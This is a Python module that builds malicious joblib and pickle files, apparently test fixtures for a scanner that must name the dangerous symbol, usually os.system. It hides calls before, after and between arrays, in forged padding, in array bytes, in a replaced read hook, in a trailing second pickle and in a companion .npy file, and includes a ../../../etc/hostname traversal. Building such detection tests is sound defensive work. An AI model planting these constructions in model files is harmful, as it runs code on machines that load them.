"""Malicious joblib files: (file, bytes, symbols that must be named, what it shows)."""
import struct

from assembler import *  # noqa: F403
from files import OS_SYSTEM, P2, P4, SYSTEM, SYSTEM_P2, end

RAW = struct.pack('<3d', 1.0, 2.0, 3.0)


def listed(*before_and_after):
    """A list with an array in it: the parts before it, the array, the parts after it."""
    before, after = before_and_after
    head = P4 + EMPTY_LIST + MARK + before
    return head + wrapper('f8', [3], RAW, position=len(head)) + after + APPENDS + STOP


def objects(*elements):
    """A dict with an array of objects in it."""
    return end(P4, EMPTY_DICT, text('data'), wrapper('O8', [len(elements)], object_array(*elements), order='|', flags=63), SETITEM)


def framed_after():
    """As joblib writes it: a frame that ends with BUILD, padding, the array, a second frame."""
    head = EMPTY_LIST + MARK + wrapper('f8', [3], b'', position=None, extra=(('numpy_array_alignment_bytes', int1(16)),))
    start = P4 + frame(head)
    pad = 16 - (len(start) + 1) % 16
    return start + bytes([pad]) + b'\xff' * pad + RAW + frame(SYSTEM + APPENDS + STOP)


def frame_tail():
    """Opcodes after BUILD in the same frame: the array lies behind the frame, and then they run."""
    head = EMPTY_LIST + MARK + wrapper('f8', [3], b'')
    return P4 + frame(head + SYSTEM + APPENDS + STOP) + RAW


def forged_pad():
    """A pad length of 99 ('c'): joblib skips 99 bytes, pickle.load reads a GLOBAL in them."""
    head = P4 + wrapper('f8', [3], b'', extra=(('numpy_array_alignment_bytes', int1(16)),))
    hidden = b'os\nsystem\n' + b'U\0' + TUPLE1 + REDUCE + POP + STOP
    return head + b'c' + hidden.ljust(99, b'\xff') + RAW + STOP


def weights():
    """Opcodes in the bytes of an array: nothing for joblib.load, a call for pickle.load."""
    hidden = (POP + SYSTEM + STOP).ljust(48, b'\0')
    return P4 + wrapper('f8', [6], hidden) + STOP


def old_placeholder(file_name):
    return end(proto(3), built(name('joblib.numpy_pickle', 'NDArrayWrapper'), ('filename', text(file_name)), ('subclass', name('numpy', 'ndarray')), ('allow_mmap', TRUE)))


def npy(stream):
    """An .npy file of one object: its header and a pickle."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b' ' * (63 - (10 + len(header)) % 64) + b'\n'
    return b'\x93NUMPY\x01\x00' + struct.pack('<H', len(header)) + header + stream


AFTER = listed(b'', SYSTEM)

FILES = [
    ('joblib_before.joblib', listed(SYSTEM, b''), 'os.system', 'the call before an array'),
    ('joblib_after.joblib', AFTER, 'os.system', 'the call after an array'),
    ('joblib_after_framed.joblib', framed_after(), 'os.system', 'the same in frames, as joblib writes them'),
    ('joblib_after_old.joblib', end(P2, EMPTY_LIST, MARK, wrapper('f8', [3], RAW), SYSTEM, APPENDS), 'os.system', 'the call after an array without padding (joblib before 1.2)'),
    ('joblib_inside.joblib', objects(int1(1), SYSTEM), 'os.system', 'the call in the pickle of an array of objects'),
    ('joblib_inside_then_after.joblib', end(P4, EMPTY_LIST, MARK, wrapper('O8', [1], object_array(NONE), order='|', flags=63), SYSTEM, APPENDS), 'os.system', 'the call after an array of objects'),
    ('joblib_between.joblib', end(P4, EMPTY_LIST, MARK, wrapper('f8', [3], RAW), SYSTEM, wrapper('f8', [3], RAW), APPENDS), 'os.system', 'the call between two arrays'),
    ('joblib_frame_tail.joblib', frame_tail(), 'os.system', 'opcodes after BUILD in the same frame'),
    ('joblib_forged_pad.joblib', forged_pad(), 'os.system', 'padding that pickle.load runs'),
    ('joblib_weights.joblib', weights(), 'os.system', 'array bytes that pickle.load runs'),
    ('joblib_read_hook.joblib', end(P4, wrapper('f8', [3], RAW, extra=(('read', OS_SYSTEM),))), 'os.system', "the wrapper's own method is replaced by a key of its state"),
    ('joblib_second_stream.joblib', listed(b'', NONE) + SYSTEM_P2, 'os.system', 'a second pickle after the end'),
    ('joblib_old_traversal.pkl', old_placeholder('../../../etc/hostname'), 'joblib.numpy_pickle.NDArrayWrapper', 'an old placeholder that names a file outside its directory'),
    ('joblib_old_companion.pkl', old_placeholder('joblib_old_companion.pkl_01.npy'), 'os.system', 'an old placeholder; the call is in the companion'),
    ('joblib_old_companion.pkl_01.npy', npy(object_array(SYSTEM)), 'os.system', 'the companion: an array of objects'),
]
